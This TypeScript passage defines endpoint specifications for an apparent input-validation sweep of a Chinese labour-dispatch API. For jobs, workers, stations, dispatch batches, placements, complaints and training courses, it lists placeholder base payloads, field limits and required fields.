  /** The sweep agency's employer in 513401, and its 共享用工 offer and request (UUIDs nobody has until made). */
  employerId: string;
  offerId: string;
  requestId: string;
  /** The sweep station's complaint about an employer in 513401 (or a UUID nobody has). */
  complaintId: string;
  /** Resident ID numbers nobody has registered. */
  freshIdNumbers: string[];
  stationSub: string;
  startAt: string;
  endAt: string;
  yesterday: string;
  bodyLimits: Record<AppKey, number>;
}

/** 统一社会信用代码 of a 西昌 employer whose check characters hold. */
const SWEEP_CREDIT_CODE = makeCreditCode('513401', '20261205');

const text = (max: number, more: Partial<Extract<FieldKind, { t: 'text' }>> = {}): FieldKind => ({ t: 'text', max, ...more });
const code: FieldKind = { t: 'code' };
const bool: FieldKind = { t: 'bool' };
const object: FieldKind = { t: 'object' };
const num = (min: number, max: number, more: Partial<Extract<FieldKind, { t: 'num' }>> = {}): FieldKind => ({ t: 'num', min, max, ...more });
const array = (max?: number, unique?: boolean): FieldKind => ({ t: 'array', max, unique });
const limited = ({ min, max }: { min: number; max: number }, more: Partial<Extract<FieldKind, { t: 'num' }>> = {}): FieldKind => num(min, max, more);

/** Ranking weights changes (matching's admin): valid bases the sweep breaks one way at a time. */
const WEIGHT_CHANGES: Obj[] = [{ weights: { distance: 3, laborBrand: 1 }, reason: '省内通勤距离权重调整' }, { weights: { skills: 3 }, reason: 'sweep' }];
const WEIGHT_CHANGE_FIELDS: Record<string, FieldKind> = {
  weights: object, 'weights.distance': num(0, 100), 'weights.laborBrand': num(0, 100), 'weights.skills': num(0, 100), reason: text(500, { notEmpty: true }),
};

const JOB_FIELDS: Record<string, FieldKind> = {
  externalId: text(JOB_LIMITS.externalId.maxLength, { notEmpty: true }),
  title: text(JOB_LIMITS.title.maxLength, { notEmpty: true }),
  description: text(JOB_LIMITS.description.maxLength),
  kind: code,
  occupationCode: code,
  skills: array(JOB_LIMITS.skills.maxItems),
  'skills[]': object,
  'skills[].code': code,
  'skills[].minLevel': limited(JOB_LIMITS.skillLevel, { int: true }),
  headcount: limited(JOB_LIMITS.headcount, { int: true }),
  wage: object,
  'wage.min': limited(JOB_LIMITS.wage, { cny: true }),
  'wage.max': limited(JOB_LIMITS.wage, { cny: true }),
  'wage.unit': code,
  location: object,
  'location.regionCode': code,
  'location.lat': num(-90, 90),
  'location.lon': num(-180, 180),
  'location.address': text(JOB_LIMITS.address.maxLength),
  crossRegion: object,
  'crossRegion.sourceRegionCodes': array(JOB_LIMITS.sourceRegionCodes.maxItems),
  'crossRegion.sourceRegionCodes[]': code,
  ageRange: object,
  'ageRange.min': limited(JOB_LIMITS.age, { int: true }),
  'ageRange.max': limited(JOB_LIMITS.age, { int: true }),
  olderWorkerFriendly: bool,
  startAt: code,
  endAt: code,
  instant: bool,
  benefits: object,
  'benefits.housing': bool,
  'benefits.meals': bool,
  'benefits.transport': bool,
  'benefits.injuryInsurance': bool,
  relocationQuotaPct: limited(JOB_LIMITS.relocationQuotaPct, { int: true }),
  laborBrand: code,
  requiredCertificates: array(10),
  'requiredCertificates[]': object,
  'requiredCertificates[].code': code,
};
const JOB_REQUIRED = ['title', 'kind', 'headcount', 'wage', 'wage.min', 'wage.max', 'wage.unit', 'location', 'location.regionCode', 'skills[].code', 'crossRegion.sourceRegionCodes'];

function jobBases(ctx: SweepContext, externalId: (n: number) => string): Obj[] {
  return [
    {
      externalId: externalId(1),
      title: `sweep ${ctx.runId} 电子厂普工`,
      description: `bad-input sweep ${ctx.runId}: 流水线作业，包住宿`,
      kind: 'gig',
      occupationCode: '6-18-02-04',
      skills: [{ code: 'welding', minLevel: 2 }],
      requiredCertificates: [{ code: 'welder-cert' }],
      headcount: 30,
      wage: { min: 180, max: 240, unit: 'day' },
      location: { regionCode: '440306', lat: 22.55, lon: 113.88, address: `宝安区 sweep ${ctx.runId}` },
      crossRegion: { sourceRegionCodes: ['510000', '513400'] },
      ageRange: { min: 18, max: 55 },
      olderWorkerFriendly: false,
      startAt: ctx.startAt,
      endAt: ctx.endAt,
      instant: false,
      benefits: { housing: true, meals: true, transport: false, injuryInsurance: true },
      relocationQuotaPct: 20,
      laborBrand: '川妹子',
    },
    {
      externalId: externalId(2),
      title: `sweep ${ctx.runId} 仓库理货员`,
      kind: 'fulltime',
      headcount: 5,
      wage: { min: 4000, max: 6000.5, unit: 'month' },
      location: { regionCode: '440306' },
    },
    {
      externalId: externalId(3),
      title: `sweep ${ctx.runId} 村道保洁`,
      kind: 'public_welfare',
      headcount: 2,
      wage: { min: 1500, max: 1500, unit: 'month' },
      location: { regionCode: '513401', lat: 27.88, lon: 102.27, address: '西昌市' },
      startAt: ctx.startAt,
      endAt: ctx.endAt,
      benefits: { injuryInsurance: true },
    },
  ];
}

const GEO = { 'location': object, 'location.lat': num(-90, 90), 'location.lon': num(-180, 180) };
const SKILL_LISTS = {
  skills: array(50),
  'skills[]': object,
  'skills[].code': code,
  'skills[].level': num(1, 5, { int: true }),
  certificates: array(50),
  'certificates[]': object,
  'certificates[].code': code,
  'certificates[].level': num(1, 5, { int: true }),
  'certificates[].issuedOn': code,
  'certificates[].validUntil': code,
  laborBrand: code,
  priorityGroups: array(undefined, true),
  'priorityGroups[]': code,
};
const PREFERENCES = {
  preferences: object,
  'preferences.kinds': array(undefined, true),
  'preferences.kinds[]': code,
  'preferences.willingToMigrate': bool,
  'preferences.targetRegionCodes': array(50, true),
  'preferences.targetRegionCodes[]': code,
  'preferences.maxCommuteKm': num(0, 5000),
  'preferences.minWage': object,
  'preferences.minWage.amount': num(0, 1_000_000),
  'preferences.minWage.unit': code,
  'preferences.availableFrom': code,
};
const STATUS_FIELDS = { status: code, effectiveDate: code, regionCode: code, registeredAt: code, employer: text(200, { notEmpty: true }) };
const WORKER_NESTED_REQUIRED = ['location.lat', 'location.lon', 'skills[].code', 'skills[].level', 'certificates[].code', 'certificates[].level', 'preferences.minWage.amount', 'preferences.minWage.unit'];

export function sweepEndpoints(ctx: SweepContext): Record<string, EndpointSpec> {
  const jobIds = { id: ctx.jobId };
  const preferences = {
    kinds: ['gig', 'fulltime'],
    willingToMigrate: true,
    targetRegionCodes: ['440000'],
    maxCommuteKm: 30,
    minWage: { amount: 200, unit: 'day' },
    availableFrom: '2026-12-01',
  };
  const statuses: Obj[] = [
    { status: 'seeking', effectiveDate: ctx.yesterday, regionCode: '513401' },
    { status: 'unemployed', effectiveDate: ctx.yesterday, regionCode: '513401', registeredAt: 'residence' },
    { status: 'employed', effectiveDate: ctx.yesterday, regionCode: '440306', registeredAt: 'employment', employer: `sweep ${ctx.runId} 深圳某电子厂` },
  ];
  const worker = (n: number): Obj => ({
    idNumber: ctx.freshIdNumbers[n % ctx.freshIdNumbers.length],
    name: '张三',
    phone: '13800000000',
    homeRegionCode: '513401',
    residenceRegionCode: '513401',
    stationId: ctx.stationSub,
  });
  const workerIds = ['6f1e2d3c-4b5a-4968-8776-655443322110', '7a6b5c4d-3e2f-4a1b-9c8d-7e6f5a4b3c2d'];
  const batch = {
    originRegionCode: '513401',
    originStationId: ctx.stationSub,
    destination: { jobIds: [ctx.openJobId], regionCode: '440306', address: `sweep ${ctx.runId} 宝安区某电子厂`, employer: '某电子厂' },
    departAt: ctx.startAt,
    transport: { mode: 'bus', capacity: 40 },
  };
  const workerBases: Obj[] = [
    { ...worker(0), location: { lat: 27.88, lon: 102.27 }, skills: [{ code: 'welding', level: 3 }], certificates: [{ code: 'welder-cert', level: 4, issuedOn: '2024-03-01' }, { code: 'forklift-license', level: 2, validUntil: '2027-05-31' }], laborBrand: '凉山建工', priorityGroups: ['poverty_alleviated'], preferences },
    worker(1),
    { ...worker(2), employmentStatus: statuses[2] },
    { ...worker(3), employmentStatus: statuses[1], preferences: { kinds: ['seasonal'], minWage: { amount: 150.5, unit: 'day' } } },
  ];
  const workerFields: Record<string, FieldKind> = {
    idNumber: code, name: text(50, { notEmpty: true }), phone: code, homeRegionCode: code, residenceRegionCode: code,
    stationId: { t: 'code', extra: [403] }, ...GEO, ...SKILL_LISTS, ...PREFERENCES, employmentStatus: object,
    ...Object.fromEntries(Object.entries(STATUS_FIELDS).map(([k, v]) => [`employmentStatus.${k}`, v])),
  };
  const workerRequired = ['idNumber', 'name', 'phone', 'homeRegionCode', 'residenceRegionCode', 'stationId', ...WORKER_NESTED_REQUIRED,
    'employmentStatus.status', 'employmentStatus.effectiveDate', 'employmentStatus.regionCode'];
  const { bodyLimits } = ctx;
  return {
    'POST /v1/jobs': {
      app: 'jobs', method: 'POST', template: '/v1/jobs', role: 'agency', params: {}, body: 'required', bodyLimit: bodyLimits.jobs,
      bases: jobBases(ctx, (n) => `sweep-${ctx.runId}-create-${n}`), fields: JOB_FIELDS, required: JOB_REQUIRED,
    },
    'POST /v1/jobs/bulk': {
      app: 'jobs', method: 'POST', template: '/v1/jobs/bulk', role: 'agency', params: {}, body: 'required', bodyLimit: bodyLimits.jobs,
      bases: [{ jobs: jobBases(ctx, (n) => `sweep-${ctx.runId}-bulk-${n}`) }],
      fields: { jobs: array(1000), 'jobs[]': object, ...Object.fromEntries(Object.entries(JOB_FIELDS).map(([k, v]) => [`jobs[].${k}`, v])) },
      required: ['jobs', ...JOB_REQUIRED.map((k) => `jobs[].${k}`)],
      items: { key: 'jobs', bases: jobBases(ctx, (n) => `sweep-${ctx.runId}-bulk-item-${n}`), fields: JOB_FIELDS, required: JOB_REQUIRED },
    },
    'PUT /v1/jobs/:id': {
      app: 'jobs', method: 'PUT', template: '/v1/jobs/:id', role: 'agency', params: jobIds, body: 'required', bodyLimit: bodyLimits.jobs,
      bases: jobBases(ctx, () => `sweep-${ctx.runId}-fixture`).slice(0, 2), fields: JOB_FIELDS, required: JOB_REQUIRED,
    },
    'POST /v1/jobs/:id/close': { app: 'jobs', method: 'POST', template: '/v1/jobs/:id/close', role: 'agency', params: jobIds, body: 'none', bodyLimit: bodyLimits.jobs },
    'POST /v1/workers': {
      app: 'workers', method: 'POST', template: '/v1/workers', role: 'station', params: {}, body: 'required', bodyLimit: bodyLimits.workers,
      bases: workerBases, fields: workerFields, required: workerRequired,
    },
    'POST /v1/workers/bulk': {
      app: 'workers', method: 'POST', template: '/v1/workers/bulk', role: 'station', params: {}, body: 'required', bodyLimit: bodyLimits.workers,
      bases: [{ workers: workerBases }],
      // Mutated rows come back `invalid` (`forbidden` for another station's stationId); a valid envelope field's wrong value refuses the call.
      items: { key: 'workers', bases: workerBases, fields: workerFields, required: workerRequired, envelope: { dryRun: ['true', 1, 0, [], {}, 'no'] } },
    },
    'POST /v1/workers/lookup': {
      app: 'workers', method: 'POST', template: '/v1/workers/lookup', role: 'station', params: {}, body: 'required', bodyLimit: bodyLimits.workers,
      bases: [{ idNumber: ctx.freshIdNumbers[0] }, { phone: '13800000000' }, { phone: '+86 138-0000-0000' }],
      fields: { idNumber: code, phone: code },
    },
    'PATCH /v1/workers/:id': {
      app: 'workers', method: 'PATCH', template: '/v1/workers/:id', role: 'station', params: { id: ctx.workerId }, body: 'optional', bodyLimit: bodyLimits.workers,
      bases: [
        { name: '李四', phone: '13912345678' },
        { preferences },
        { location: { lat: 27.9, lon: 102.3 }, skills: [{ code: 'welding', level: 4 }], priorityGroups: ['relocated', 'monitoring_target'], homeRegionCode: '513401' },
      ],
      fields: { name: text(50, { notEmpty: true }), phone: code, homeRegionCode: code, residenceRegionCode: code, ...GEO, ...SKILL_LISTS, ...PREFERENCES },
      required: WORKER_NESTED_REQUIRED,
    },
    'POST /v1/workers/:id/employment-status': {
      app: 'workers', method: 'POST', template: '/v1/workers/:id/employment-status', role: 'station', params: { id: ctx.workerId }, body: 'required',
      bodyLimit: bodyLimits.workers, bases: statuses, fields: STATUS_FIELDS, required: ['status', 'effectiveDate', 'regionCode'],
    },
    'POST /v1/search/jobs': {
      app: 'matching', method: 'POST', template: '/v1/search/jobs', role: 'station', params: {}, body: 'optional', bodyLimit: bodyLimits.matching,
      bases: [
        { q: '普工 电子厂', regionCode: '440300', kinds: ['gig', 'fulltime'], near: { lat: 22.55, lon: 113.88, km: 50 }, wageMin: 150, instantOnly: false, page: 1, pageSize: 20 },
        { q: '焊工' },
        { near: { lat: 27.88, lon: 102.27, km: 30 }, pageSize: 5, laborBrand: '川妹子' },
        { q: '搬运', agencyId: `agency-sweep-${ctx.runId}` },
      ],
      fields: {
        q: text(100, { nulOk: true }), regionCode: code, laborBrand: code, agencyId: text(100, { nulOk: true }), kinds: array(6), 'kinds[]': code, near: object, 'near.lat': num(-90, 90), 'near.lon': num(-180, 180),
        'near.km': num(0.1, 2000), wageMin: num(0, 100_000), instantOnly: bool, page: num(1, 500, { int: true }), pageSize: num(1, 100, { int: true }),
      },
      required: ['near.lat', 'near.lon', 'near.km'],
    },
    'POST /v1/admin/reindex': { app: 'matching', method: 'POST', template: '/v1/admin/reindex', role: 'admin', params: {}, body: 'none', bodyLimit: bodyLimits.matching },
    'PUT /v1/admin/ranking-weights': {
      app: 'matching', method: 'PUT', template: '/v1/admin/ranking-weights', role: 'admin', params: {}, body: 'required', bodyLimit: bodyLimits.matching,
      bases: WEIGHT_CHANGES, fields: WEIGHT_CHANGE_FIELDS, required: ['weights', 'reason'],
    },
    'PUT /v1/admin/ranking-weights/provinces/:provinceCode': {
      app: 'matching', method: 'PUT', template: '/v1/admin/ranking-weights/provinces/:provinceCode', role: 'admin', params: { provinceCode: '510000' }, body: 'required',
      bodyLimit: bodyLimits.matching, bases: WEIGHT_CHANGES, fields: WEIGHT_CHANGE_FIELDS, required: ['weights', 'reason'],
    },
    'DELETE /v1/admin/ranking-weights/provinces/:provinceCode': {
      app: 'matching', method: 'DELETE', template: '/v1/admin/ranking-weights/provinces/:provinceCode', role: 'admin', params: { provinceCode: '510000' }, body: 'required',
      bodyLimit: bodyLimits.matching, bases: [{ reason: '恢复全国权重' }], fields: { reason: WEIGHT_CHANGE_FIELDS.reason }, required: ['reason'],
    },
    'POST /v1/stations': {
      app: 'dispatch', method: 'POST', template: '/v1/stations', role: 'admin', params: {}, body: 'required', bodyLimit: bodyLimits.dispatch,
      bases: [
        { id: `sweep-${ctx.runId}-st1`, name: `sweep ${ctx.runId} 西昌市就业服务站`, regionCode: '513401', location: { lat: 27.88, lon: 102.27 } },
        { id: `sweep-${ctx.runId}-st2`, name: `sweep ${ctx.runId} 站`, regionCode: '440306', location: { lat: 22.55, lon: 113.88 }, webhook: { url: 'https://station.example.cn/laowu/matches', secret: 'a-secret-of-sixteen-plus' } },
      ],
      fields: { id: code, name: text(200, { notEmpty: true }), regionCode: code, location: object, 'location.lat': num(-90, 90), 'location.lon': num(-180, 180), webhook: object, 'webhook.url': code, 'webhook.secret': text(200, { nulOk: true }) },
      required: ['id', 'name', 'regionCode', 'location', 'location.lat', 'location.lon', 'webhook.url', 'webhook.secret'],
    },
    'PUT /v1/stations/:id/push-settings': {
      app: 'dispatch', method: 'PUT', template: '/v1/stations/:id/push-settings', role: 'station', params: { id: ctx.stationSub }, body: 'required',
      bodyLimit: bodyLimits.dispatch, pathExtra: [403],
      bases: [
        { instant: true, crossRegion: true, workerAvailable: true, minScore: 0, maxPerJob: 50 },
        { instant: false, crossRegion: true, workerAvailable: false, minScore: 12.5, maxPerJob: 1 },
        { instant: true, crossRegion: false, workerAvailable: true, minScore: 1000, maxPerJob: 500 },
      ],
      fields: { instant: bool, crossRegion: bool, workerAvailable: bool, minScore: num(0, 1000), maxPerJob: num(1, 500, { int: true }) },
      required: ['instant', 'crossRegion', 'workerAvailable', 'minScore', 'maxPerJob'],
    },
    'POST /v1/stations/:id/webhook-secret/rotate': {
      app: 'dispatch', method: 'POST', template: '/v1/stations/:id/webhook-secret/rotate', role: 'station', params: { id: ctx.stationSub }, body: 'optional',
      bodyLimit: bodyLimits.dispatch, pathExtra: [403],
      bases: [{ previousSecretValidForSeconds: 3600 }, { previousSecretValidForSeconds: 0 }, { previousSecretValidForSeconds: 604800 }],
      fields: { previousSecretValidForSeconds: num(0, 604800, { int: true }) },
    },
    'POST /v1/stations/:id/webhook-secret/finish-rotation': {
      app: 'dispatch', method: 'POST', template: '/v1/stations/:id/webhook-secret/finish-rotation', role: 'station', params: { id: ctx.stationSub }, body: 'none',
      bodyLimit: bodyLimits.dispatch, pathExtra: [403],
    },
    'POST /v1/stations/:id/deliveries/redeliver': {
      app: 'dispatch', method: 'POST', template: '/v1/stations/:id/deliveries/redeliver', role: 'station', params: { id: ctx.stationSub }, body: 'optional',
      bodyLimit: bodyLimits.dispatch, pathExtra: [403],
      bases: [{ deliveryIds: ['1', '2'] }, { since: ctx.startAt }, { deliveryIds: ['42'], since: ctx.startAt }],
      fields: { deliveryIds: array(1000, true), 'deliveryIds[]': code, since: code },
    },
    'POST /v1/dispatch/batches': {
      app: 'dispatch', method: 'POST', template: '/v1/dispatch/batches', role: 'coordinator', params: {}, body: 'required', bodyLimit: bodyLimits.dispatch,
      bases: [
        batch,
        { ...batch, originStationId: undefined, destination: { ...batch.destination, employer: undefined }, transport: { mode: 'train', capacity: 2000 } },
        { ...batch, contact: { name: '王建华', phone: '0834-2345678' } },
      ].map((b) => clone(b as unknown as Obj)),
      fields: {
        originRegionCode: code, originStationId: text(100), destination: object, 'destination.jobIds': array(50, true), 'destination.jobIds[]': code,
        'destination.regionCode': code, 'destination.address': text(500, { notEmpty: true }), 'destination.employer': text(200), 'destination.employerId': code, departAt: code,
        transport: object, 'transport.mode': code, 'transport.capacity': num(1, 2000, { int: true }),
        contact: object, 'contact.name': text(50, { notEmpty: true }), 'contact.phone': code,
      },
      required: [
        'originRegionCode', 'destination', 'destination.jobIds', 'destination.regionCode', 'destination.address', 'departAt', 'transport', 'transport.mode', 'transport.capacity',
        'contact.name', 'contact.phone',
      ],
    },
    'POST /v1/dispatch/batches/:id/workers': {
      app: 'dispatch', method: 'POST', template: '/v1/dispatch/batches/:id/workers', role: 'coordinator', params: { id: ctx.batchId }, body: 'required', bodyLimit: bodyLimits.dispatch,
      bases: [{ workerIds: workerIds.slice(0, 1) }, { workerIds }], fields: { workerIds: array(500, true), 'workerIds[]': code }, required: ['workerIds'],
    },
    'DELETE /v1/dispatch/batches/:id/workers/:workerId': {
      app: 'dispatch', method: 'DELETE', template: '/v1/dispatch/batches/:id/workers/:workerId', role: 'coordinator', params: { id: ctx.batchId, workerId: workerIds[0] },
      body: 'none', bodyLimit: bodyLimits.dispatch,
    },
    ...Object.fromEntries(['board', 'arrive'].map((step) => [`POST /v1/dispatch/batches/:id/${step}`, {
      app: 'dispatch', method: 'POST', template: `/v1/dispatch/batches/:id/${step}`, role: 'coordinator', params: { id: ctx.batchId }, body: 'optional',
      bodyLimit: bodyLimits.dispatch, bases: [{ workerIds: workerIds.slice(0, 1) }, { workerIds }], fields: { workerIds: array(2000, true), 'workerIds[]': code },
    } satisfies EndpointSpec])),
    ...Object.fromEntries(['depart', 'close', 'cancel'].map((step) => [`POST /v1/dispatch/batches/:id/${step}`, {
      app: 'dispatch', method: 'POST', template: `/v1/dispatch/batches/:id/${step}`, role: 'coordinator', params: { id: ctx.batchId }, body: 'none', bodyLimit: bodyLimits.dispatch,
    } satisfies EndpointSpec])),
    'POST /v1/workers/:id/follow-ups': {
      app: 'workers', method: 'POST', template: '/v1/workers/:id/follow-ups', role: 'station', params: { id: ctx.workerId }, body: 'required', bodyLimit: bodyLimits.workers,
      bases: [
        { kind: 'call', at: `${ctx.yesterday}T10:00:00+08:00`, outcome: 'employed' },
        { kind: 'visit', at: `${ctx.yesterday}T10:00:00+08:00`, outcome: 'unreachable', note: '电话未接通，下周上门', nextDueAt: `${ctx.startAt.slice(0, 10)}T10:00:00+08:00` },
      ],
      fields: { kind: code, at: code, outcome: code, note: text(1000), nextDueAt: code },
      required: ['kind', 'at', 'outcome'],
    },
    'POST /v1/workers/:id/income': {
      app: 'workers', method: 'POST', template: '/v1/workers/:id/income', role: 'station', params: { id: ctx.workerId }, body: 'required', bodyLimit: bodyLimits.workers,
      bases: [{ month: ctx.yesterday.slice(0, 7), flexibleIncome: 850.5 }, { month: '2025-12', flexibleIncome: 0 }],
      fields: { month: code, flexibleIncome: num(0, 10_000_000, { cny: true }) }, required: ['month', 'flexibleIncome'],
    },
    'PUT /v1/reference/monitoring-lines/:regionCode': {
      app: 'workers', method: 'PUT', template: '/v1/reference/monitoring-lines/:regionCode', role: 'admin', params: { regionCode: '513401' }, body: 'required',
      bodyLimit: bodyLimits.workers, bases: [{ annualIncome: 7600 }, { annualIncome: 12000.5 }],
      fields: { annualIncome: num(0.01, 10_000_000, { cny: true }) }, required: ['annualIncome'],
    },
    'POST /v1/placements': {
      app: 'dispatch', method: 'POST', template: '/v1/placements', role: 'station', params: {}, body: 'required', bodyLimit: bodyLimits.dispatch,
      bases: [
        { workerId: ctx.workerId, employer: { name: `sweep ${ctx.runId} 某食品厂`, creditCode: '91513401MA62X0XX1Q' }, startDate: ctx.yesterday, source: 'direct', wage: { amount: 3800, unit: 'month' }, regionCode: '513401', concurrent: false },
        { workerId: ctx.workerId, jobId: ctx.openJobId, employer: { name: `sweep ${ctx.runId} 某电子厂` }, startDate: ctx.yesterday, source: 'direct' },
      ],
      fields: {
        workerId: code, jobId: code, matchId: code, employerId: code, employer: object, 'employer.name': text(200, { notEmpty: true }), 'employer.creditCode': code, startDate: code,
        wage: object, 'wage.amount': num(0.01, 10_000_000, { cny: true }), 'wage.unit': code, source: code, regionCode: code, concurrent: bool,
      },
      required: ['workerId', 'employer', 'employer.name', 'startDate', 'source', 'wage.amount', 'wage.unit'],
    },
    'POST /v1/placements/:id/end': {
      app: 'dispatch', method: 'POST', template: '/v1/placements/:id/end', role: 'station', params: { id: ctx.placementId }, body: 'required', bodyLimit: bodyLimits.dispatch,
      pathExtra: [403], bases: [{ endDate: ctx.yesterday, reason: 'quit' }, { endDate: ctx.yesterday, reason: 'contract_end' }],
      fields: { endDate: code, reason: code }, required: ['endDate', 'reason'],
    },
    'POST /v1/placements/:id/checks': {
      app: 'dispatch', method: 'POST', template: '/v1/placements/:id/checks', role: 'station', params: { id: ctx.placementId }, body: 'required', bodyLimit: bodyLimits.dispatch,
      pathExtra: [403], bases: [{ afterMonths: 1, stillEmployed: true }, { afterMonths: 6, stillEmployed: false, note: '已离职，回乡务农' }],
      fields: { afterMonths: code, stillEmployed: bool, note: text(500) }, required: ['afterMonths', 'stillEmployed'],
    },
    'PUT /v1/workshops/:creditCode': {
      app: 'dispatch', method: 'PUT', template: '/v1/workshops/:creditCode', role: 'admin', params: { creditCode: '91513401MA62X0XX1Q' }, body: 'required', bodyLimit: bodyLimits.dispatch,
      bases: [{ name: `sweep ${ctx.runId} 就业帮扶车间`, regionCode: '513401' }, { name: `sweep ${ctx.runId} 车间`, regionCode: '513400' }],
      fields: { name: text(200, { notEmpty: true }), regionCode: code }, required: ['name', 'regionCode'],
    },
    'DELETE /v1/workshops/:creditCode': {
      app: 'dispatch', method: 'DELETE', template: '/v1/workshops/:creditCode', role: 'admin', params: { creditCode: '91513401MA62X0XX1Q' }, body: 'none', bodyLimit: bodyLimits.dispatch,
    },
    'POST /v1/employers': {
      app: 'jobs', method: 'POST', template: '/v1/employers', role: 'agency', params: {}, body: 'required', bodyLimit: bodyLimits.jobs,
      bases: [
        { name: `sweep ${ctx.runId} 凉山某建筑劳务公司`, creditCode: makeCreditCode('513401', String(10_000_000 + Math.floor(Math.random() * 89_999_999))), regionCode: '513401', workshop: true },
        { name: `sweep ${ctx.runId} 车间`, creditCode: makeCreditCode('513400', String(10_000_000 + Math.floor(Math.random() * 89_999_999))), regionCode: '513400' },
      ],
      fields: { name: text(200, { notEmpty: true }), creditCode: code, regionCode: code, workshop: bool }, required: ['name', 'creditCode', 'regionCode'],
    },
    'PATCH /v1/employers/:id': {
      app: 'jobs', method: 'PATCH', template: '/v1/employers/:id', role: 'agency', params: { id: ctx.employerId }, body: 'required', bodyLimit: bodyLimits.jobs,
      bases: [{ workshop: true }, { workshop: false }], fields: { workshop: bool }, required: ['workshop'],
    },
    ...Object.fromEntries(['offers', 'requests'].map((side) => [`POST /v1/sharing/${side}`, {
      app: 'jobs', method: 'POST', template: `/v1/sharing/${side}`, role: 'agency', params: {}, body: 'required', bodyLimit: bodyLimits.jobs,
      bases: [
        { employerId: ctx.employerId, headcount: 5, skills: [{ code: 'welding', level: 2 }], from: ctx.startAt.slice(0, 10), to: ctx.endAt.slice(0, 10), regionCode: '513401', wage: { min: 5000, max: 6500, unit: 'month' } },
        { employerId: ctx.employerId, headcount: 1, skills: [{ code: 'masonry' }], from: ctx.startAt.slice(0, 10), to: ctx.startAt.slice(0, 10), regionCode: '513400' },
      ],
      fields: {
        employerId: code, headcount: num(1, 10_000, { int: true }), skills: array(20), 'skills[]': object, 'skills[].code': code, 'skills[].level': num(1, 5, { int: true }),
        from: code, to: code, regionCode: code, wage: object, 'wage.min': num(0, 1_000_000), 'wage.max': num(0, 1_000_000), 'wage.unit': code,
      },
      required: ['employerId', 'headcount', 'skills', 'from', 'to', 'regionCode', 'skills[].code', 'wage.min', 'wage.max', 'wage.unit'],
    } satisfies EndpointSpec])),
    ...Object.fromEntries([['offers', ctx.offerId], ['requests', ctx.requestId]].map(([side, id]) => [`POST /v1/sharing/${side}/:id/close`, {
      app: 'jobs', method: 'POST', template: `/v1/sharing/${side}/:id/close`, role: 'agency', params: { id }, body: 'none', bodyLimit: bodyLimits.jobs,
    } satisfies EndpointSpec])),
    'POST /v1/sharing/agreements': {
      app: 'jobs', method: 'POST', template: '/v1/sharing/agreements', role: 'agency', params: {}, body: 'required', bodyLimit: bodyLimits.jobs,
      bases: [
        { offerId: ctx.offerId, requestId: ctx.requestId, headcount: 1, returnDate: ctx.startAt.slice(0, 10) },
        { offerId: ctx.offerId, requestId: ctx.requestId, headcount: 1, returnDate: ctx.startAt.slice(0, 10), workerIds: [ctx.workerId] },
      ],
      fields: { offerId: code, requestId: code, headcount: num(1, 10_000, { int: true }), returnDate: code, workerIds: array(10_000, true), 'workerIds[]': code },
      required: ['offerId', 'requestId', 'headcount', 'returnDate'],
    },
    'POST /v1/complaints': {
      app: 'jobs', method: 'POST', template: '/v1/complaints', role: 'station', params: {}, body: 'required', bodyLimit: bodyLimits.jobs,
      bases: [
        { workerId: ctx.workerId, employer: { name: `sweep ${ctx.runId} 某建筑公司`, regionCode: '513401' }, kind: 'wage_arrears', amount: 12800.5, description: '拖欠三个月工资' },
        { workerId: ctx.workerId, placementId: ctx.placementId, employer: { name: `sweep ${ctx.runId} 某食品厂`, creditCode: SWEEP_CREDIT_CODE }, kind: 'injury', description: '工伤未报' },
      ],
      fields: {
        workerId: code, placementId: code, employer: object, 'employer.name': text(200, { notEmpty: true }), 'employer.creditCode': code, 'employer.regionCode': code,
        kind: code, amount: num(0.01, 10_000_000, { cny: true }), description: text(2000, { notEmpty: true }),
      },
      required: ['workerId', 'employer', 'employer.name', 'kind', 'description'],
    },
    'POST /v1/complaints/:id/status': {
      app: 'jobs', method: 'POST', template: '/v1/complaints/:id/status', role: 'admin', params: { id: ctx.complaintId }, body: 'required', bodyLimit: bodyLimits.jobs,
      bases: [{ status: 'accepted' }, { status: 'rejected', note: '证据不足' }],
      fields: { status: code, note: text(1000) }, required: ['status'],
    },
    'POST /v1/training/courses': {
      app: 'jobs', method: 'POST', template: '/v1/training/courses', role: 'station', params: {}, body: 'required', bodyLimit: bodyLimits.jobs,
      bases: [
        { title: `sweep ${ctx.runId} 焊工初级培训班`, skillCode: 'welding', regionCode: '513401', startDate: ctx.startAt.slice(0, 10), endDate: ctx.endAt.slice(0, 10), seats: 40, subsidized: true },
        { title: `sweep ${ctx.runId} 家政培训`, skillCode: 'elderly-care', regionCode: '513401', startDate: ctx.startAt.slice(0, 10), endDate: ctx.startAt.slice(0, 10), seats: 1, subsidized: false },
      ],
      fields: { title: text(200, { notEmpty: true }), skillCode: code, regionCode: code, startDate: code, endDate: code, seats: num(1, 10_000, { int: true }), subsidized: bool },
      required: ['title', 'skillCode', 'regionCode', 'startDate', 'endDate', 'seats', 'subsidized'],
    },
    'POST /v1/training/courses/:id/close': {
      app: 'jobs', method: 'POST', template: '/v1/training/courses/:id/close', role: 'station', params: { id: UUID_LIKE }, body: 'none', bodyLimit: bodyLimits.jobs,
    },
    'POST /v1/reference/labor-brands': {
      app: 'jobs', method: 'POST', template: '/v1/reference/labor-brands', role: 'admin', params: {}, body: 'required', bodyLimit: bodyLimits.jobs,
      bases: [
        { name: `扫描品牌${ctx.runId}`, regionCode: '513401', trade: '建筑施工' },
        { code: `sweep-brand-${ctx.runId}`, name: `扫描品牌二${ctx.runId}`, regionCode: '513400', trade: '家政服务', keywords: [`扫描${ctx.runId}`] },
      ],
      fields: { code: code, name: text(64, { notEmpty: true }), regionCode: code, trade: text(64, { notEmpty: true }), keywords: array(10), 'keywords[]': text(64, { notEmpty: true }) },
      required: ['name', 'regionCode', 'trade'],
    },
    ...Object.fromEntries(['offer', 'accept', 'decline'].map((step) => [`POST /v1/matches/:id/${step}`, {
      app: 'dispatch', method: 'POST', template: `/v1/matches/:id/${step}`, role: 'station', params: { id: '3b0c6f5e-8d1a-4c2b-9e7f-0a1b2c3d4e5f' }, body: 'none', bodyLimit: bodyLimits.dispatch,
    } satisfies EndpointSpec])),
  };
}
